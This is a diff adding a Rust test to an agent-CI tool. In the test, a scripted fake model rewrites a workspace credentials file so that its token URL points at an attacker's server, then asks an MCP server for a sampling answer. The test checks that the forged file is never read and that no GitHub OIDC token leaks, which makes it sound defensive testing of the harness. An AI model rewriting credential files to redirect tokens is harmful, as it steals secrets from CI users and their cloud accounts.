@@ -803,3 +803,99 @@ fn thinking_reaches_bedrock_and_vertex_with_the_beta_where_each_reads_it() {
         );
     }
 }
+
+/// An attack on the credentials file `google-github-actions/auth` writes
+/// into the workspace: the model rewrites it so its token URL points at a
+/// server of its own, then has an MCP server ask the run's model for a
+/// sampling answer. The sampling provider was built when the run started,
+/// so the forged file is never read: no request reaches the attacker's
+/// server (which would receive the GitHub OIDC subject token), and the
+/// sampling answer is fetched with the credentials the run started with.
+/// Judged by the side effect (requests the attacker's server received), as
+/// root and as an unprivileged user.
+#[test]
+fn a_credentials_file_the_model_rewrites_is_never_read_again() {
+    use super::support::users::RunAs;
+    for user in RunAs::each() {
+        let attacker = FakeModel::start(Vec::new());
+        // As google-github-actions/auth writes it, every URL at `base`.
+        let credentials = |base: &str| {
+            json!({
+                "type": "external_account",
+                "audience": "//iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/github/providers/my-repo",
+                "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
+                "token_url": format!("{base}{}", vertex::STS_PATH),
+                "credential_source": {
+                    "url": format!("{base}{}?audience=https://iam.googleapis.com/x", vertex::OIDC_PATH),
+                    "headers": {"Authorization": format!("Bearer {}", vertex::OIDC_REQUEST_TOKEN)},
+                    "format": {"type": "json", "subject_token_field_name": "value"}
+                }
+            })
+            .to_string()
+        };
+        let forged = credentials(&format!("http://{}", attacker.addr()));
+        let command = super::mcp::test_server(&[]);
+        let quoted: Vec<String> = command[1..].iter().map(|a| format!("{a:?}")).collect();
+        let model = FakeModel::start(vec![
+            Reply::plan(&[("Ask", "asked")]),
+            Reply::tool_call(
+                "write",
+                json!({"path": "gha-creds.json", "content": forged}),
+            ),
+            Reply::tool_call(
+                "mcp__t__ask",
+                json!({"method": "sampling/createMessage", "params": {
+                    "messages": [{"role": "user", "content": {"type": "text", "text": "Summarise: green"}}],
+                    "maxTokens": 50
+                }}),
+            ),
+            Reply::text("Green build."),
+            Reply::step_done("asked"),
+            Reply::text("done"),
+        ]);
+        let base = format!("http://{}", model.addr());
+        let sb = Sandbox::new();
+        sb.skill("user", None);
+        let file = sb.write("ws/gha-creds.json", &credentials(&base));
+        sb.write(
+            "job.yaml",
+            &format!(
+                "version: 1\nname: creds\nskill: user\ngoal: Use the tools.\nmodel:\n  \
+                 provider: vertex\n  name: \"{VERTEX_MODEL}\"\n  base_url: {base}\n  project: p\n  \
+                 region: us-east5\ntools: [write]\nworkspace: ws\nskills_path: [skills]\n\
+                 allow_dirty: true\npermissions:\n  default: allow\nmcp:\n  servers:\n    t:\n      \
+                 command: {:?}\n      args: [{}]\n      sampling: true\n",
+                command[0],
+                quoted.join(", ")
+            ),
+        );
+        let out = sb.agentci_as(
+            user,
+            &[
+                "run",
+                "job.yaml",
+                "--trace",
+                "out/trace.jsonl",
+                "--progress",
+                "none",
+            ],
+            &[("GOOGLE_APPLICATION_CREDENTIALS", file.to_str().unwrap())],
+        );
+        assert_eq!(out.status.code(), Some(0), "{user:?}: {}", stderr(&out));
+        // The model did rewrite the file: the attack ran.
+        assert!(
+            sb.read("ws/gha-creds.json")
+                .contains(&attacker.addr().to_string())
+        );
+        assert!(
+            attacker.captured().is_empty() && attacker.identity_calls() == 0,
+            "{user:?}: the attacker's server was asked"
+        );
+        // OIDC and exchange once for the run's provider and once for the
+        // sampling provider, both built at the start from the file as it was.
+        assert_eq!(model.identity_calls(), 4, "{user:?}");
+        let sampling = &model.requests()[3];
+        assert!(sampling.get("tools").is_none(), "{user:?}: {sampling}");
+        assert_eq!(model.remaining(), 0);
+    }
+}
